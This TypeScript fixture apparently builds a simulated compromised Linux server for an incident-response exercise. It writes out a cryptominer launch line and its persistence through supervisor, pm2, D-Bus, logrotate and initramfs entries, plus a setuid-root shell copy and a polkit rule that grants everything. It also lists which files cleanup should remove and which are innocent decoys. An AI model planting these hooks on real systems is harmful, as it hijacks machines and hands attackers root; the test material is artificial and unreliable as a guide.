/**
 * A miner that is kept alive by what few look at: process managers, D-Bus, the rotation of logs, the boot image; with a
 * shell that anybody runs as root, and a rule that lets everybody act as root.
 */
import type { Files } from '../machine-tree.ts';
import { booted, clockFiles, processFiles } from './incident.ts';
import { dated, end, minerProgram, server } from './server.ts';
import { wallet } from './wallet.ts';

const came = Date.UTC(2026, 10, 20, 4, 10);
const day = 86_400_000;
const miner = '/var/tmp/.net/netns';
const start = `${miner} -o stratum+tcp://pool.example.net:5555 -u ${wallet} -p keep`;
const words = start.split(' ');

/** One entry a file: the removal script takes these away. */
export const byScript: readonly string[] = [
  miner,
  '/etc/supervisor/conf.d/net.conf',
  '/usr/share/dbus-1/system-services/org.freedesktop.Netns.service',
  '/etc/initramfs-tools/scripts/init-bottom/netns',
  '/etc/logrotate.d/zz-net',
];
/** What a person is told to do, each with words in what is told. */
export const byHand: readonly (readonly [place: string, told: RegExp])[] = [
  ['/root/.pm2/dump.pm2', /pm2 delete netns, then pm2 save --force/],
  ['/usr/lib/.fontd', /chmod u-s/],
  ['/etc/polkit-1/rules.d/00-netns.rules', /Ask who gave this right/],
];
export const innocent: readonly string[] = [
  '/etc/supervisor/conf.d/shop.conf',
  '/home/deploy/.pm2/dump.pm2',
  '/etc/logrotate.d/app',
  '/usr/local/share/dbus-1/services/org.example.Notes.service',
  '/etc/polkit-1/rules.d/50-libvirt.rules',
];

const bash = server('keep')['/usr/bin/bash'];
const shell = typeof bash === 'object' && 'content' in bash ? (bash.content ?? '') : '';

export const keptAlive: Files = server('keep1', {
  ...clockFiles,
  [miner]: dated(came, minerProgram, { mode: 0o755 }),
  '/etc/supervisor/conf.d/net.conf': dated(
    came,
    `[program:net]\ncommand=${start}\nautorestart=true\nstartretries=9999\n`,
  ),
  '/root/.pm2/dump.pm2': dated(
    came,
    JSON.stringify([
      { name: 'netns', pm_exec_path: miner, args: words.slice(1), exec_interpreter: 'none', username: 'root' },
    ]),
  ),
  '/usr/share/dbus-1/system-services/org.freedesktop.Netns.service': dated(
    came,
    `[D-BUS Service]\nName=org.freedesktop.Netns\nExec=${start}\nUser=root\n`,
  ),
  '/etc/logrotate.d/zz-net': dated(
    came,
    `/var/log/net.log {\n  daily\n  missingok\n  postrotate\n    ${start}\n  endscript\n}\n`,
  ),
  '/etc/initramfs-tools/scripts/init-bottom/netns': dated(came, `#!/bin/sh\n${start}\n`, { mode: 0o755 }),
  '/usr/lib/.fontd': dated(came, shell, { mode: 0o4755 }),
  '/etc/polkit-1/rules.d/00-netns.rules': dated(
    came,
    'polkit.addRule(function(action, subject) { return polkit.Result.YES; });\n',
  ),
  '/etc/supervisor/conf.d/shop.conf': dated(
    end - 40 * day,
    '[program:shop]\ncommand=/opt/app/server --port 8081\nuser=deploy\nautorestart=true\n',
  ),
  '/home/deploy/.pm2/dump.pm2': dated(
    end - 40 * day,
    JSON.stringify([{ name: 'web', pm_exec_path: '/opt/app/server', exec_interpreter: 'none', username: 'deploy' }]),
  ),
  '/etc/logrotate.d/app': dated(
    end - 40 * day,
    '/var/log/app.log {\n  postrotate\n    systemctl kill -s HUP app.service\n  endscript\n}\n',
  ),
  '/usr/local/share/dbus-1/services/org.example.Notes.service': dated(
    end - 40 * day,
    '[D-BUS Service]\nName=org.example.Notes\nExec=/opt/app/server --notes\n',
  ),
  '/etc/polkit-1/rules.d/50-libvirt.rules': dated(
    end - 40 * day,
    'polkit.addRule(function(action, subject) {\n  if (subject.isInGroup("libvirt")) return polkit.Result.YES;\n});\n',
  ),
  ...processFiles(3301, {
    name: 'netns',
    program: miner,
    argv: words,
    uid: 0,
    parent: 1,
    started: (came + 30_000 - booted) / 1000,
    folder: '/',
  }),
});
